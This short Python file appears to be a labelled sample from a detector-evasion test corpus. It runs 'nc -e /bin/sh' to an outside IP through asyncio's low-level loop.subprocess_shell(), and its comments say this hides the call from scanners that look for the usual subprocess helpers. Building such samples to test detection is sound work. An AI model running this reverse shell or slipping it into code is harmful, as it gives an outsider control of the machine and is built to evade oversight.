# Evasion: runs a shell command (a reverse shell).
# Hidden in asyncio's low-level event loop API: loop.subprocess_shell() with a
# SubprocessProtocol, reached through the running loop object rather than the
# usual asyncio.create_subprocess_* helpers.
import asyncio


class Proto(asyncio.SubprocessProtocol):
    def __init__(self, done):
        self.done = done

    def pipe_data_received(self, fd, data):
        print(data.decode(errors="replace"), end="")

    def process_exited(self):
        self.done.set_result(True)


async def main():
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    cmd = "nc -e /bin/sh 203.0.113.50 9001"
    transport, _ = await loop.subprocess_shell(lambda: Proto(done), cmd)
    await done
    transport.close()


asyncio.run(main())
